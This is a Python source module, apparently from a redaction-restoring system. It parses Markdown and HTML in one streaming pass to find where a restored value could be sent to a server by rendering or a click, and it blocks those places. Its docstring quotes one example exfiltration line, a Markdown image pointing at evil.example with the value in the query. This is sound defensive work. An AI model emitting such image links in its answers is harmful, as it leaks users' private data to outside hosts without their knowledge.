"""Finds the places of an answer that a renderer may send over the network («travel»).

No value is restored there: in a link's destination, an attribute or a script it could be sent to a
server by mere display or a click (`![x](https://evil.example/?q=<value>)`). A place travels if any
reading of the answer says so: CommonMark with and without raw HTML, the tokenizer of HTML, GFM's
autolinks. One pass from left to right with a bounded look-ahead, so that a stream gives the same
result as the whole, in linear time. What the look-ahead leaves undecided counts as travelling.
"""

from __future__ import annotations

import copy
import re
from typing import Final

from engine.returned.zones import address_ends
from engine.returned.zones.address_ends import Verdict
from engine.returned.zones.code_blocks import LOOK_AHEAD, Blocks, spans
from engine.returned.zones.html_tags import (
    LONGEST_OPENING,
    HtmlTags,
    escaped,
    fills_attribute,
    whole_tag,
)
from engine.returned.zones.link_targets import ADDRESS, LinkTargets, begins_address

_MARKS = (
    rf"(?P<line>\r\n?|\n)|(?P<tag><)|(?P<ticks>`++)|(?P<link>\]\()|(?P<label>\]\[|!\[)"
    rf"|(?P<define>\]:)|(?P<address>{ADDRESS})"
)
_IN_WORDS: Final = r"(?:(?<!\w)|(?!\w))"
"""Nothing that is looked for begins inside a word: there the rest need not be tried."""
_IDLE: Final = re.compile(rf"{_IN_WORDS}(?! )(?:{_MARKS})")
_BUSY: Final = re.compile(
    rf"{_IN_WORDS}(?:{_MARKS}|(?P<space>[ \t\f\v]++)|(?P<sign>[>\"'=/()\[\]]))"
)
_CODE: Final = re.compile(
    rf"{_IN_WORDS}(?:(?P<line>\r\n?|\n)|(?P<tag><)|(?P<address>{ADDRESS})|(?P<space>[ \t\f\v]++)"
    r"|(?P<sign>[>\"'=/()\[\]{}`]))"
)
_LONGEST_MARK: Final = 32
_RAW_END: Final = re.compile(r"</(?:pre|script|style|textarea)", re.IGNORECASE)
_BREAKS_OUT: Final = re.compile(r"[\s\"'<>`]")
_QUOTED_LINE: Final = re.compile(r"[ \t]*+(?:(?:[-*+]|\d{1,9}[.)])[ \t]++)*+>")
_QUOTE_MARKS: Final = re.compile(r"[ \t>]*+")
_LONGEST_PREFIX: Final = 256
_OPENED: Final = re.compile(r"<[/!?]?\Z")
_NAMES_TAG: Final = re.compile(r"[a-z/!?]", re.IGNORECASE)
"""Behind a «<» that begins no tag yet, such a value would begin one."""


class Zones:
    """State of the scan for travelling places, up to the last position asked about."""

    def __init__(self) -> None:
        self._position = 0
        self._fresh = True
        self._blocks = Blocks()
        self._tags = HtmlTags()
        self._targets = LinkTargets()
        self._code: HtmlTags | None = None
        self._code_end = -1
        self._address = False
        self._address_tag = -1
        self._depth = 0
        self._ticks = -1
        self._clean = True
        self._spans: tuple[tuple[int, int], ...] | None = None
        self._accepted = 0
        self._line = 0
        self._quoted = False
        self._ticked = False

    def state(self) -> dict[str, object]:
        """All that what follows depends on, to compare: values that ended before tell nothing."""
        code = None if self._code is None else self._code.state()
        accepted = self._accepted if self._accepted > self._position else 0
        tags = self._tags.state()
        return {**vars(self), "_tags": tags, "_code": code, "_accepted": accepted}

    def copied(self) -> Zones:
        """An independent copy."""
        copied = copy.copy(self)
        vars(copied).update(
            _blocks=copy.copy(self._blocks),
            _tags=self._tags.copied(),
            _targets=self._targets.copied(),
            _code=None if self._code is None else self._code.copied(),
        )
        return copied

    def judge(
        self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
    ) -> Verdict | None:
        """Whether a value of type `kind` may be put back at `[start, end)`; None: wait for more.

        Places are asked about from left to right, `text` may have grown since.
        """
        if not self._advance(text, start, final=final):
            return None
        if self._inside(text, start):
            whole = not _BREAKS_OUT.search(original)
            verdict = self._filled(text, start, end, kind=kind, final=final)
            return verdict if whole or verdict is None else "travels"
        if _OPENED.search(text, max(0, start - 2), start) and _NAMES_TAG.match(original):
            verdict = _in_brackets(text, start, end, kind=kind, final=final)
        elif self._code is not None:
            verdict = "free"
        else:
            verdict = self._followed(text, start, end, kind=kind, original=original, final=final)
        if verdict == "free" and self.in_element:
            return "html"
        return verdict

    def clean(self, text: str, position: int, *, final: bool, spaced: bool = False) -> bool | None:
        """Whether in every reading nothing is open at `position`; None: wait for more.

        `spaced` says that white space or the end follows, which ends an address.
        """
        if not self._advance(text, position, final=final):
            return None
        if (self._address and not spaced) or self._blocks.info:
            return False
        code = self._code is not None and self._code.alive
        return not (code or self._tags.alive or self._targets.alive)

    @property
    def in_element(self) -> bool:
        """Whether what stands here is text of an element of HTML."""
        return (self._code or self._tags).in_element

    def accept(self, end: int) -> None:
        """Records that a value was restored up to `end`; marks in its stand-in open nothing."""
        self._accepted = end

    def _inside(self, text: str, position: int) -> bool:
        if self._address or self._blocks.info:
            return True
        if self._code is not None:
            return self._code.alive
        return self._tags.alive or self._targets.holds(text, position)

    def _advance(self, text: str, to: int, *, final: bool) -> bool:
        """Reads up to `to`; False if more text is needed."""
        while self._fresh or self._position < to:
            if self._fresh:
                done = self._begin_line(text, final=final)
            elif self._code is not None:
                done = self._read_code(text, to, final=final)
            else:
                done = self._read(text, to, final=final)
            if not done:
                return False
        return True

    def _begin_line(self, text: str, *, final: bool) -> bool:
        was_code = self._blocks.code
        if not self._blocks.begin(text, self._position, markup=self._tags.alive, final=final):
            return False
        self._fresh, self._line = False, self._position
        self._ticks, self._clean, self._spans = -1, True, None
        if self._blocks.ends_raw and not self._blocks.sure:
            self._tags.end_block(comments=self._blocks.leaves)
        if self._blocks.code and not was_code:
            self._code, self._code_end = HtmlTags(code=True), -1
            self._targets.end_paragraph()
        elif was_code and not self._blocks.code:
            self._code = None
        elif self._blocks.blank and not self._blocks.code:
            self._targets.end_paragraph()
        return True

    def _next(self, pattern: re.Pattern[str], text: str, to: int) -> re.Match[str] | None:
        match = pattern.search(text, self._position, to + _LONGEST_MARK)
        return match if match and match.start() < to else None

    def _read(self, text: str, to: int, *, final: bool) -> bool:
        """Reads up to and including the next relevant mark."""
        alive = self._tags.alive or self._address or self._targets.alive
        match = self._next(_BUSY if alive else _IDLE, text, to)
        start = match.start() if match else to
        if start > self._position:
            self._pass_over()
            self._position = start
        if match is None:
            return True
        if match.lastgroup == "tag":
            return self._read_tag(text, final=final)
        self._read_mark(text, match)
        self._position = match.end()
        return True

    def _pass_over(self) -> None:
        """Passes over characters without markup meaning."""
        self._tags.pass_over()
        self._targets.other_character()

    def _marks_quote(self, text: str, position: int) -> bool:
        """Whether a `>` is a block quote marker rather than the end of the tag."""
        if not self._quoted or text[position] != ">":
            return False
        prefix = min(position, self._line + _LONGEST_PREFIX)
        if _QUOTED_LINE.match(text, self._line, prefix) is None:
            return True  # a mark, or behind the quotation's end, where Markdown escapes it
        return _QUOTE_MARKS.fullmatch(text, self._line, prefix) is not None and prefix == position

    def _read_mark(self, text: str, match: re.Match[str]) -> None:
        start, end = match.span()
        if self._tags.alive:
            for place in range(start, end):
                if self._marks_quote(text, place):
                    self._tags.pass_over()
                else:
                    self._tags.read(text, place)
        if text[start] == ">" and self._address and self._tag_ends(text, start):
            self._address = False
        marked = match.lastgroup
        if marked in ("line", "space"):
            self._address = False
            self._fresh = marked == "line"
        if marked == "ticks":
            self._see_ticks(text, start)
        elif marked == "address":
            self._open_address(text, start, end)
        elif marked != "define" or start >= self._accepted:
            self._targets.read(marked or "", text, start, end)

    def _tag_ends(self, text: str, position: int) -> bool:
        """Whether the tag in which the address began ends at `position`, in every reading."""
        begun, self._address_tag = self._address_tag, -1
        if begun < 0 or self._tags.alive:
            self._address_tag = begun
            return False
        return whole_tag(text, begun, min(position + 1, begun + LOOK_AHEAD)) == position + 1

    def _open_address(self, text: str, start: int, end: int) -> None:
        if self._address or start < self._accepted:
            return
        if end == start + 1 and not begins_address(text, start):
            return
        self._address, self._depth = True, 0
        self._address_tag = self._tags.opened if self._tags.in_tag else -1

    def _see_ticks(self, text: str, start: int) -> None:
        """Records backticks; code spans are resolved only when a `<` follows."""
        self._targets.other_character()
        self._ticked = True
        taken = self._tags.alive or self._address or self._targets.alive
        if taken or self._blocks.html or self._blocks.doubt or escaped(text, start):
            self._clean = False
        if self._ticks < 0:
            self._ticks = start

    def _read_tag(self, text: str, *, final: bool) -> bool:
        """Reads `<`: shown literally in code, else possibly a tag."""
        position = self._position
        if not final and len(text) - position < LONGEST_OPENING:
            return False
        code_end = self._span_end(text, position, final=final)
        if code_end is None:
            return False
        if code_end > position:
            self._code, self._code_end = HtmlTags(code=True), code_end
            return True
        self._address = False
        prefix = min(position, self._line + _LONGEST_PREFIX)
        quoted = _QUOTED_LINE.match(text, self._line, prefix) is not None
        self._quoted = quoted or (self._quoted and self._tags.alive)
        self._tags.begin(text, position, shown=self._may_be_shown(text, position))
        if _RAW_END.match(text, position):
            self._blocks.close_raw()
        self._targets.sign(text, position)
        self._position = position + 1
        return True

    def _may_be_shown(self, text: str, position: int) -> bool:
        """Whether Markdown may show the `<` at `position` as it is: escaped, or in some code."""
        self._ticked = self._ticked and self._tags.alive
        if self._blocks.sure:
            return False
        code = self._ticked or self._blocks.doubt or self._blocks.indented
        return code or escaped(text, position)

    def _span_end(self, text: str, position: int, *, final: bool) -> int | None:
        """Where the code span around `position` ends; -1: none, None: more text is needed."""
        if self._ticks < 0 or not self._clean:
            return -1
        if self._spans is None:
            self._spans = spans(text, self._ticks, final=final)
        if self._spans is None:
            return None
        return next((end for start, end in self._spans if start < position < end), -1)

    def _read_code(self, text: str, to: int, *, final: bool) -> bool:
        """`_read` inside code, where only HTML and bare URLs count."""
        code = self._code
        limit = to if self._code_end < 0 else min(to, self._code_end)
        match = self._next(_CODE, text, limit)
        start = match.start() if match else limit
        if code is None:
            return True
        if start > self._position:
            code.pass_over()
            self._position = start
        if match is None:
            self._leave_span()
            return True
        if match.lastgroup == "tag":
            if not final and len(text) - start < LONGEST_OPENING:
                return False
            self._address = False
            code.begin(text, start)
            self._position = start + 1
        else:
            self._read_code_mark(text, match, code)
            self._position = match.end()
        self._leave_span()
        return True

    def _leave_span(self) -> None:
        if 0 <= self._code_end <= self._position:
            self._code, self._code_end, self._address = None, -1, False

    def _read_code_mark(self, text: str, match: re.Match[str], code: HtmlTags) -> None:
        start, end = match.span()
        if code.alive:
            for place in range(start, end):
                code.read(text, place)
        if match.lastgroup == "address":
            if end > start + 1 and not self._address and start >= self._accepted:
                self._address, self._depth = True, 0
        elif match.lastgroup in ("line", "space"):
            self._address = False
            self._fresh = match.lastgroup == "line"
        elif text[start] in "\"'>`":
            self._address = False
        elif text[start] in "([{":
            self._depth += 1
        elif text[start] in ")]}":
            self._depth -= 1
            self._address = self._address and self._depth >= 0

    def _filled(self, text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
        """Verdict for a URL inside a destination: free only if it is the whole destination."""
        angle = text[start - 1 : start] == "<"
        if self._address or self._blocks.info or not (kind == "URL" or angle):
            return "travels"
        if end == len(text) and not final:
            return None
        if self._code is not None:
            return self._filled_code(text, start, end)
        return self._filled_text(text, start, end, kind=kind, final=final)

    def _filled_code(self, text: str, start: int, end: int) -> Verdict:
        """Verdict inside code: free only as a whole quoted attribute."""
        before, in_tag = text[start - 1 : start], self._code is not None and self._code.in_tag
        quoted = before in ("'", '"') and text[end : end + 1] == before
        return "free" if in_tag and quoted else "travels"

    def _filled_text(
        self, text: str, start: int, end: int, *, kind: str, final: bool
    ) -> Verdict | None:
        if self._tags.alive and not self._fits_tag(text, start, end, kind=kind):
            return self._tag_verdict(text, final=final)
        if not self._targets.holds(text, start):
            return "free"
        after, angle = text[end : end + 1], text[start - 1 : start] == "<"
        ends = (">",) if angle else (")", " ", "\t", "\r", "\n", "")
        if kind != "URL" or after not in ends or not self._targets.begins(text, start):
            return "travels"
        return address_ends.ended(text, end, final=final)

    def _fits_tag(self, text: str, start: int, end: int, *, kind: str) -> bool:
        """`<value>`, or a whole attribute of the only tag that is open."""
        begun, before, after = self._tags.opened, text[start - 1], text[end : end + 1]
        if begun < 0 or not self._tags.in_tag:
            return False
        if begun == start - 1:
            return kind in ("URL", "EMAIL_ADDRESS") and after == ">"
        if kind != "URL" or before not in ("'", '"') or after != before:
            return False
        return fills_attribute(text, begun, begun + LOOK_AHEAD, (start, end))

    def _tag_verdict(self, text: str, *, final: bool) -> Verdict | None:
        """The verdict where the rest of the tag may still make it a whole one."""
        begun = self._tags.opened
        if begun < 0 or final or whole_tag(text, begun, begun + LOOK_AHEAD) > 0:
            return "travels"
        closed = text.find(">", begun, begun + LOOK_AHEAD) >= 0
        return "travels" if closed or len(text) - begun >= LOOK_AHEAD else None

    def _followed(
        self, text: str, start: int, end: int, *, kind: str, original: str, final: bool
    ) -> Verdict | None:
        """Verdict for running text: whether following text makes the value part of a URL."""
        if kind == "URL" or address_ends.holds_address(original):
            linked = text[start - 1 : start] == "["
            return address_ends.ended(text, end, final=final, linked=linked)
        if self._targets.define >= 0 and start == self._targets.defined(text):
            verdict = address_ends.defined(text, end, final=final)
            if verdict != "free":
                return verdict
        return address_ends.joined(text, start, end, kind=kind, final=final)


def _in_brackets(text: str, start: int, end: int, *, kind: str, final: bool) -> Verdict | None:
    """Verdict for a value directly after «<»: free only as a whole autolink."""
    if kind not in ("URL", "EMAIL_ADDRESS") or text[start - 1] != "<":
        return "travels"
    if end == len(text) and not final:
        return None
    return "free" if text[end : end + 1] == ">" else "travels"
